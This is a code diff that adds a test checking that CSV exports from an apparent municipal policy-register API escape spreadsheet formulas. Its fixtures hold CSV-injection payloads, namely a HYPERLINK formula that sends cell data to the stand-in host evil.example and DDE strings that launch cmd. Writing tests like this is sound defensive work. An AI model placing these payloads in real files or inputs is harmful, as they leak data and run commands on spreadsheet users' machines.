@@ -262,3 +262,37 @@ def test_openapi_documents_the_register_endpoints(client: TestClient) -> None:
     assert {"/api/register", "/api/themes", "/api/compare", "/api/commitments"} <= set(paths)
     params = {p["name"] for p in paths["/api/compare"]["get"]["parameters"]}
     assert {"theme", "municipalities", "limit", "long", "format"} <= params
+
+
+def test_csv_downloads_never_carry_a_formula(
+    client: TestClient, assistant: Assistant, tmp_path: Path
+) -> None:
+    """Text from a hostile PDF, or a municipality name in a link someone was sent, must open in a
+    spreadsheet as text (CSV injection); a plain negative budget figure stays a number."""
+    own = RegisterStore(tmp_path / "own.sqlite")
+    meta = DocumentMeta("kwaadstad-plan-2024", "Kwaadstad", "Plan", 2024, "2024", "beleidsplan")
+    link = '=HYPERLINK("http://evil.example/?d="&A2,"Klik hier")'
+
+    def record(kind: Any, text: str, quote: str, **kw: Any) -> Record:
+        return Record(kind, text, Provenance(meta.doc_id, 1, quote, 0, len(quote)), "Kwaadstad", 2024,
+                      themes=("jeugd",), **kw)  # fmt: skip
+
+    own.replace_document(meta, [
+        record("goal", link, "@SUM(1+1)*cmd|' /C calc'!A0"),
+        record("budget", "-1.250", "-1.250"),
+    ])  # fmt: skip
+    assistant.register = own
+
+    register = rows(client.get("/api/register", params={"format": "csv"}).text)
+    goal = next(r for r in register if r[1] == "doel")
+    assert goal[2] == "'" + link and goal[7] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    budget = next(r for r in register if r[1] == "begrotingsregel")
+    assert budget[2] == budget[7] == "-1.250"
+
+    params = {"theme": "jeugd", "format": "csv", "municipalities": "Kwaadstad,-2+3+cmd|' /C calc'!A0"}
+    wide = rows(client.get("/api/compare", params=params).text)
+    assert wide[0][1:] == ["Kwaadstad", "'-2+3+cmd|' /C calc'!A0"]
+    long = rows(client.get("/api/compare", params={**params, "long": "true"}).text)
+    assert ["goal", "Kwaadstad", "'" + link] in [r[:3] for r in long]
+    for cell in (c for r in [*register, *wide, *long] for c in r):
+        assert cell.lstrip()[:1] not in ("=", "+", "@") and (cell[:1] != "-" or cell == "-1.250"), cell
